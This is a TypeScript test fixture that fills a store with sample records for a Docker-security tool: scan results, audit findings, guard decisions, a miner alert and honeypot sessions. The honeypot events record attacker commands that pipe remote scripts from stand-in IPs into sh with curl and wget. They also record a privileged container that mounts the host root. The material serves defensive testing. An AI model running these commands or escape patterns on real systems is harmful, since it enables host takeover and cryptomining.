// Realistic records shaped like the front ends write them (scan results, audit findings, guard decisions,
// watch alerts, trap sessions), as a list of writes, so fleet and serve tests fill any Store the same way.
import type { PortcullisEvent } from '../../../src/core/events/index.js';
import type { Finding } from '../../../src/core/report/finding.js';
import type { GuardAuditRecord, Store } from '../../../src/core/store/store.js';

type Write = (s: Store) => Promise<void>;

function ev(eventid: string, timestamp: string, fields: Record<string, unknown>): PortcullisEvent {
  return { eventid, timestamp, source: 'portcullis', ...fields } as PortcullisEvent;
}

const AUDIT_FINDINGS: Finding[] = [
  { ruleId: 'PCL-AUD-001', severity: 'critical', title: 'Engine API on TCP without TLS', target: 'host-a',
    message: 'dockerd listens on tcp://0.0.0.0:2375 without TLS', evidence: [{ kind: 'flag', location: 'pid 812', value: '-H tcp://0.0.0.0:2375' }],
    remediation: 'Remove the tcp:// host or add --tlsverify with client certificates', cis: '2.6' },
  { ruleId: 'PCL-AUD-014', severity: 'medium', title: 'Docker socket is group-writable by a broad group', target: 'host-a',
    message: '/var/run/docker.sock is mode 0666', evidence: [{ kind: 'file', location: '/var/run/docker.sock', value: '0666' }],
    remediation: 'chmod 660 /var/run/docker.sock', cis: '3.16' },
  { ruleId: 'PCL-AUD-020', severity: 'low', title: 'Live restore disabled', target: 'host-a', message: 'live-restore is false',
    evidence: [{ kind: 'file', location: '/etc/docker/daemon.json', line: 3 }], remediation: 'Set "live-restore": true in daemon.json' },
];

function audit(i: number, time: string, verdict: 'allow' | 'deny', extra: Partial<GuardAuditRecord> = {}): GuardAuditRecord {
  return {
    time, requestId: `req-${i}`, subject: i % 3 === 0 ? 'ci' : 'alice', source: '127.0.0.1', method: 'POST',
    path: '/v1.41/containers/create', routeId: 'container.create', verdict, status: verdict === 'allow' ? 201 : 403, durationMs: 3.5,
    ...(verdict === 'deny' ? { ruleId: 'PCL-GRD-001', reason: 'HostConfig.Binds mounts the host root (/) read-write' } : {}),
    ...extra,
  };
}

export function sampleWrites(): Write[] {
  return [
    async (s) => {
      await s.saveRun({ id: 'scan-1', tool: 'scan', startedAt: '2026-11-01T09:00:00.000Z', host: 'sensor-1', target: '127.0.0.0/30' });
      await s.saveScanResults('scan-1', [
        { host: '127.0.0.1', port: 2375, state: 'exposed', data: { apiVersion: '1.41', version: '20.10.24', tls: false } },
        { host: '127.0.0.2', port: 2376, state: 'tls-required', data: { tls: true } },
      ]);
      await s.finishRun('scan-1', '2026-11-01T09:00:05.000Z', { exposed: 1, closed: 0 });
      await s.saveRun({ id: 'scan-2', tool: 'scan', startedAt: '2026-11-01T12:00:00.000Z', host: 'sensor-1', target: '127.0.0.0/30' });
      await s.saveScanResults('scan-2', [
        { host: '127.0.0.1', port: 2375, state: 'exposed', data: { apiVersion: '1.41', version: '20.10.24', tls: false } },
        { host: '127.0.0.2', port: 2376, state: 'exposed', data: { apiVersion: '1.41', tls: true, clientCertRequired: false } },
        { host: '127.0.0.3', port: 2375, state: 'closed', data: {} },
      ]);
      await s.finishRun('scan-2', '2026-11-01T12:00:04.000Z', { exposed: 2, closed: 1 });
    },
    async (s) => {
      await s.saveRun({ id: 'audit-1', tool: 'audit', startedAt: '2026-11-01T09:30:00.000Z', host: 'host-a', target: '/' });
      await s.saveFindings('audit-1', AUDIT_FINDINGS);
      await s.finishRun('audit-1', '2026-11-01T09:30:02.000Z', { critical: 1, medium: 1, low: 1 });
    },
    async (s) => {
      const recs: GuardAuditRecord[] = [];
      for (let i = 0; i < 24; i++) {
        const t = `2026-11-01T${String(10 + Math.floor(i / 4)).padStart(2, '0')}:${String((i % 4) * 15).padStart(2, '0')}:00.000Z`;
        recs.push(audit(i, t, i % 4 === 1 ? 'deny' : 'allow', i % 5 === 0 ? { method: 'GET', path: '/v1.41/containers/json', routeId: 'container.list', status: 200 } : {}));
      }
      recs.push(audit(99, '2026-11-01T15:00:00.000Z', 'deny', { subject: 'anonymous', routeId: 'exec.create', path: '/v1.41/containers/x/exec',
        ruleId: 'PCL-GRD-007', reason: 'no credentials: client certificate missing' }));
      await s.appendGuardAudit(recs);
    },
    async (s) => {
      await s.saveRun({ id: 'watch-1', tool: 'watch', startedAt: '2026-11-01T10:00:00.000Z', host: 'host-b', target: 'unix:///var/run/docker.sock' });
      await s.appendEvents([
        ev('watch.run.started', '2026-11-01T10:00:00.000Z', { tool: 'watch', run: 'watch-1' }),
        ev('watch.response.taken', '2026-11-01T10:00:02.100Z', { tool: 'watch', container: 'pcl-miner-1', action: 'stop', dry_run: false, detail: 'container stopped' }),
        ev('watch.alert.raised', '2026-11-01T10:00:02.200Z', { tool: 'watch', rule: 'PCL-MIN-008', severity: 'critical',
          title: 'Miner-like or kernel-thread-lookalike process', message: 'process 4242 runs as "xmrig", a miner name', container: 'pcl-miner-1',
          evidence: [{ kind: 'process', location: 'pid 4242', value: 'xmrig -o pool.minexmr.example:4444' }], attack: ['T1496'],
          remediation: 'Stop the container and find how it was created', trigger: 'start',
          response: { action: 'stop', done: true, dryRun: false, detail: 'container stopped' } }),
      ]);
    },
    async (s) => {
      const base = { sensor: 'trap-1', src_port: 40112, dst_port: 2375 };
      const a = { ...base, session: 'sess-a', src_ip: '127.0.0.66' };
      await s.appendEvents([
        ev('trap.session.opened', '2026-11-01T10:00:01.000Z', { ...a, protocol: 'docker-api' }),
        ev('trap.request.received', '2026-11-01T10:00:01.500Z', { ...a, method: 'GET', path: '/v1.41/info', route: 'system.info' }),
        ev('trap.image.pull_attempted', '2026-11-01T10:00:02.000Z', { ...a, image: 'alpine:latest', route: 'image.create' }),
        ev('trap.indicator.extracted', '2026-11-01T10:00:02.100Z', { ...a, type: 'image', value: 'alpine:latest', decoded: false, route: 'image.create' }),
        ev('trap.container.create_attempted', '2026-11-01T10:00:03.000Z', { ...a, image: 'alpine', binds: ['/:/mnt'], privileged: true }),
        ev('trap.command.observed', '2026-11-01T10:00:03.100Z', { ...a, command: 'chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh', field: 'Cmd', decoded: false }),
        ev('trap.indicator.extracted', '2026-11-01T10:00:03.200Z', { ...a, type: 'url', value: 'http://198.51.100.7/x.sh', decoded: false }),
        ev('trap.indicator.extracted', '2026-11-01T10:00:03.300Z', { ...a, type: 'ipv4', value: '198.51.100.7', decoded: false }),
        ev('trap.session.closed', '2026-11-01T10:05:00.000Z', { ...a, reason: 'idle', requests: 4 }),
        ev('trap.session.opened', '2026-11-01T13:00:00.000Z', { ...base, session: 'sess-b', src_ip: '127.0.0.77', protocol: 'docker-api' }),
        ev('trap.command.observed', '2026-11-01T13:00:01.000Z', { ...base, session: 'sess-b', src_ip: '127.0.0.77', command: 'wget -q -O- http://203.0.113.9/m | sh', decoded: true }),
        ev('trap.indicator.extracted', '2026-11-01T13:00:01.100Z', { ...base, session: 'sess-b', src_ip: '127.0.0.77', type: 'domain', value: 'pool.minexmr.example', decoded: true }),
      ]);
    },
  ];
}
